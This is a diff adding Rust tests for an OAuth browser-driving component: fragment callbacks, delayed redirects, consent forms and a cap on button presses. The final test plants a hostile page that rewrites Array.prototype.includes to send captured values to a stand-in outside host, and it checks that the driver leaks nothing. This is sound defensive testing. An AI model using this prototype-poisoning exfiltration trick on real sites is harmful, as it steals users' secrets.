@@ -221,3 +221,192 @@ async fn a_dialog_is_answered_and_the_page_goes_on() {
         obs.observed
     );
 }
+
+/// A listener on a host outside the run (127.0.0.2): whether anything reached it.
+struct Outside(std::net::TcpListener);
+
+impl Outside {
+    fn new() -> Outside {
+        let listener = std::net::TcpListener::bind("127.0.0.2:0").expect("127.0.0.2 is loopback");
+        listener.set_nonblocking(true).unwrap();
+        Outside(listener)
+    }
+
+    fn url(&self) -> String {
+        format!("http://127.0.0.2:{}/leak", self.0.local_addr().unwrap().port())
+    }
+
+    fn reached(&self) -> bool {
+        self.0.accept().is_ok()
+    }
+}
+
+fn client_for(hosts: &[&str]) -> HttpClient {
+    let hosts = HostPolicy::only(Hosts::new(hosts.iter().map(|h| h.to_string())));
+    HttpClient::new(Duration::from_secs(5), Redactor::default())
+        .unwrap()
+        .restricted_to(hosts)
+}
+
+/// Callbacks in the fragment (implicit responses and their errors) keep their parameters; an
+/// image on the callback's origin is no callback.
+#[tokio::test]
+#[ignore = "needs Chromium (apt-get install chromium)"]
+async fn a_fragment_callback_keeps_its_parameters_and_an_image_is_no_callback() {
+    let s = MockServer::start().await;
+    let html = format!(
+        r#"<title>Wait</title><img src="http://127.0.0.1:9/logo.png"><p>Redirecting you now, please wait a moment.</p>
+        <script>setTimeout(() => location = "{CALLBACK}#error=access_denied&state=st", 300)</script>"#
+    );
+    page(&s, "/authorize", &html).await;
+    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
+    assert_eq!(
+        obs.vars.get("callback.error").map(String::as_str),
+        Some("access_denied"),
+        "{obs:?}"
+    );
+    assert_eq!(obs.vars["callback.state"], "st");
+}
+
+/// Pages on their way are not judged: a timed refresh, and a sign-in waiting on a slow request.
+#[tokio::test]
+#[ignore = "needs Chromium (apt-get install chromium)"]
+async fn a_page_still_on_its_way_is_waited_for() {
+    let s = MockServer::start().await;
+    let refresh =
+        format!(r#"<title>Redirecting</title><meta http-equiv="refresh" content="2;url={CALLBACK}?code=meta">"#);
+    page(&s, "/authorize", &refresh).await;
+    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
+    assert_eq!(
+        obs.vars.get("callback.code").map(String::as_str),
+        Some("meta"),
+        "{obs:?}"
+    );
+
+    let s = MockServer::start().await;
+    let slow = format!(
+        r#"<title>Sign in</title><button id="go">Sign in</button><script>
+        document.getElementById("go").onclick = () =>
+          fetch("/session").then(() => location = "{CALLBACK}?code=slow");
+        </script>"#
+    );
+    page(&s, "/authorize", &slow).await;
+    Mock::given(method("GET"))
+        .and(path("/session"))
+        .respond_with(ResponseTemplate::new(200).set_delay(Duration::from_millis(2500)))
+        .mount(&s)
+        .await;
+    let obs = drive(&settings(&[], &["Sign in"], Duration::from_secs(10)), &s).await;
+    assert_eq!(
+        obs.vars.get("callback.code").map(String::as_str),
+        Some("slow"),
+        "{obs:?}"
+    );
+}
+
+/// A sign-in without a form element (inputs in a script-built page) is for a person, never the
+/// authorization server's answer; a JSON error is handed over as JSON.
+#[tokio::test]
+#[ignore = "needs Chromium (apt-get install chromium)"]
+async fn a_page_asking_for_input_is_interaction_required_and_json_stays_json() {
+    let s = MockServer::start().await;
+    let html = "<title>Welcome</title><div id=app></div><script>document.getElementById('app').innerHTML = \
+                '<p>Please enter the one-time code we sent to your phone to continue signing in.</p>\
+                <input id=otp><button>Verify</button>'</script>";
+    page(&s, "/authorize", html).await;
+    let obs = drive(&settings(&[], &["Continue"], Duration::from_secs(10)), &s).await;
+    assert!(error(&obs).starts_with("interaction required"), "{obs:?}");
+
+    let s = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/authorize"))
+        .respond_with(ResponseTemplate::new(400).set_body_raw(r#"{"error":"invalid_request"}"#, "application/json"))
+        .mount(&s)
+        .await;
+    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
+    let Observed::Response(r) = &obs.observed else {
+        panic!("{obs:?}")
+    };
+    assert_eq!(
+        (r.status, r.body.as_slice()),
+        (400, br#"{"error":"invalid_request"}"#.as_slice())
+    );
+}
+
+/// With no button configured, a refusing one is never pressed (the reference's form lists
+/// Deny first); and a page that changes with every press is pressed a few times at most.
+#[tokio::test]
+#[ignore = "needs Chromium (apt-get install chromium)"]
+async fn presses_never_refuse_by_default_and_are_capped() {
+    let s = MockServer::start().await;
+    let html = format!(
+        r#"<title>Consent</title><form action="{CALLBACK}"><button name=d value=deny>Deny</button><button name=d value=approve>Approve</button></form>"#
+    );
+    page(&s, "/authorize", &html).await;
+    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
+    assert_eq!(
+        obs.vars.get("callback.d").map(String::as_str),
+        Some("approve"),
+        "{obs:?}"
+    );
+
+    let s = MockServer::start().await;
+    let html = r#"<title>Sign in</title><button id=b>Sign in</button><script>let n = 0;
+        document.getElementById("b").onclick = () => { n++; history.replaceState(null, "", "?try=" + n); fetch("/press"); };
+        </script>"#;
+    page(&s, "/authorize", html).await;
+    page(&s, "/press", "no").await;
+    drive(&settings(&[], &["Sign in"], Duration::from_secs(4)), &s).await;
+    let presses = s
+        .received_requests()
+        .await
+        .unwrap()
+        .iter()
+        .filter(|r| r.url.path() == "/press")
+        .count();
+    assert!((1..=MAX_PRESSES).contains(&presses), "{presses} presses");
+}
+
+/// Nothing leaves the run's hosts, not even a cross-site frame's requests; and a
+/// refused origin's page cannot read the configured values by rewriting the functions the
+/// driver's script calls (it runs in a world of its own).
+#[tokio::test]
+#[ignore = "needs Chromium (apt-get install chromium)"]
+async fn nothing_reaches_a_host_outside_the_run_and_a_refused_page_reads_no_secret() {
+    let outside = Outside::new();
+    let s = MockServer::start().await;
+    let port = url::Url::parse(&s.uri()).unwrap().port().unwrap();
+    let html = format!(
+        r#"<title>Sign in</title><p>Checking your browser before you sign in, one moment please.</p>
+        <iframe src="http://localhost:{port}/frame"></iframe><script>
+        Array.prototype.includes = function () {{ fetch("{leak}?" + JSON.stringify(this)); return false; }};
+        </script><form action=/done><input name=username><button>Continue</button></form>"#,
+        leak = outside.url(),
+    );
+    page(&s, "/authorize", &html).await;
+    page(
+        &s,
+        "/frame",
+        &format!(r#"<img src="{0}"><script>fetch("{0}")</script>"#, outside.url()),
+    )
+    .await;
+    page(&s, "/done", "<title>Done</title><p>done</p>").await;
+    let mut settings = settings(&[("username", "alice")], &[], Duration::from_secs(10));
+    settings.form.refused_origins = vec![s.uri()];
+    let start = format!("{}/authorize", s.uri());
+    drive_browser(
+        &settings,
+        &client_for(&["127.0.0.1", "localhost"]),
+        "authz",
+        &start,
+        CALLBACK,
+    )
+    .await;
+    assert!(!outside.reached(), "a request left the run's hosts");
+    let done = s.received_requests().await.unwrap();
+    let done = done
+        .iter()
+        .find(|r| r.url.path() == "/done")
+        .expect("the form was submitted");
+    assert_eq!(done.url.query(), Some("username="), "never filled on a refused origin");
+}
